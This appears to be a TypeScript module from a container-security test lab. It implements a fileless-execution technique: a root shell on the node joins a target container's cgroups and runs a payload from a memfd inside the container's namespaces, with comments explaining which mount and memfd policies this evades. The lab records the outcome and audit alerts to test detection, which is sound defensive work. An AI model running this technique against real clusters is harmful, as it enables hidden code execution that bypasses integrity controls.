/**
 * Attack (T1620 Reflective Code Loading, T1059.004 Unix Shell): code runs
 * in a protected container from an anonymous memory file (memfd_create(2),
 * then fexecve), so it is in no signed layer and in no file system at all:
 * the start gate's read-only root and noexec writable mounts cannot refuse
 * it, since the kernel does not apply mount flags to a memfd.
 *
 * The lab's images carry no interpreter that could call memfd_create (a
 * Python or Perl in the image would), so root on the node plays that part:
 * a shell moves itself into the container's cgroups (every hierarchy that
 * names the container), then runs native/memfd-exec.c, which copies the
 * node's busybox into a memfd, enters the container's namespaces and runs
 * the memfd as `sh -c <payload>`. To the kernel, and to any detector that
 * places processes by cgroup (the audit layer, Falco), that is a process of
 * the container.
 *
 * Effect: the payload's output (it should read a file of the container, to
 * show it ran in the container's mount namespace) and exit 0. Only the audit
 * layer can see it: the verdict on integrity is its alert. The memfd is made
 * in the node's pid namespace, so the start gate's memfd policy for the
 * container (vm.memfd_noexec = 2 in its pid namespace) does not apply to it;
 * memfd-exec-inside is the container making its own, which that policy
 * blocks.
 */
import { copyFile } from 'node:fs/promises';
import { join } from 'node:path';
import { awaitAuditAlerts, awaitAuditWatching } from '../../audit/index.ts';
import { compileStatic } from '../../node/native.ts';
import type { Technique, TechniqueContext } from '../technique.ts';
import { requirePayload } from './common.ts';
import { targetOf } from './overmount.ts';

const NATIVE = join(import.meta.dirname, 'native');

/**
 * The shell the attacker runs on the node: join every cgroup directory of
 * the container (cgroup v1 has one per hierarchy), then exec the tool. With
 * runc's cgroupfs driver (the lab node) a container's directory is named by
 * its id; with the systemd driver (a kind node) it is the scope
 * `cri-containerd-<id>.scope`.
 */
export function joinCgroupsThenRun(containerId: string, tool: readonly string[]): string[] {
  if (!/^[0-9a-f]{64}$/.test(containerId)) throw new Error(`container id should be 64 hex digits, got ${JSON.stringify(containerId)}`);
  const script = 'n=0; for d in $(find /sys/fs/cgroup -type d \\( -name "$1" -o -name "cri-containerd-$1.scope" \\)); do echo $$ > "$d/cgroup.procs" && n=$((n+1)); done; [ "$n" -gt 0 ] || { echo "no cgroup of $1 joined" >&2; exit 97; }; shift; exec "$@"';
  return ['sh', '-c', script, 'sh', containerId, ...tool];
}

/**
 * An attacker tool (`native/<name>.c`: built here, copied into the node)
 * ready to run as a process of the attack's target container: `run` starts
 * it from a shell on the node that joined the container's cgroups, with
 * `flags`, the container's pid, then `args`. As for an attacker in the
 * container, who arrives once it runs, the audit layer watches the
 * container first; `since` is when the attack began.
 */
export async function containerTool(ctx: TechniqueContext, name: string) {
  const { node } = ctx;
  const target = await targetOf(ctx);
  const tool = join(node.shareDir, name);
  await copyFile(await compileStatic(join(NATIVE, `${name}.c`), name), tool);
  await awaitAuditWatching(node, target.containerId);
  const since = new Date();
  return {
    target,
    since,
    async run(args: readonly string[], flags: readonly string[] = []) {
      const command = joinCgroupsThenRun(target.containerId, [tool, ...flags, String(target.pid), ...args]);
      return { command, r: await node.exec.run(command) };
    },
  };
}

/** Runs memfd-exec (`mode`: its flags) as a process of the container, with the node's busybox as the payload's shell. */
export async function runMemfdTool(ctx: TechniqueContext, mode: readonly string[]) {
  const payload = requirePayload(ctx.attack);
  const tool = await containerTool(ctx, 'memfd-exec');
  const { target, since } = tool;
  const { command, r } = await tool.run(['/bin/busybox', 'sh', '-c', payload], mode);
  const stdout = r.stdout.toString();
  return { payload, target, command, r, stdout, stderr: r.stderr.toString(), effect: r.exitCode === 0 && stdout.trim() !== '', since };
}

export const memfdExec: Technique = {
  name: 'memfd-exec',
  async run(ctx) {
    const { payload, target, command, r, stdout, stderr, effect, since } = await runMemfdTool(ctx, []);
    const { node } = ctx;
    return {
      effect,
      reason: effect
        ? `a shell from a memory file (memfd_create + fexecve) ran "${payload}" in ${target.pod.namespace}/${target.pod.name}: exit 0`
        : `the shell from a memory file did not run in ${target.pod.namespace}/${target.pod.name}: exit ${r.exitCode}, ${r.stderr.toString().trim()}`,
      evidence: { command, exitCode: r.exitCode, stdout, stderr, auditAlerts: await awaitAuditAlerts(node, since) },
    };
  },
};
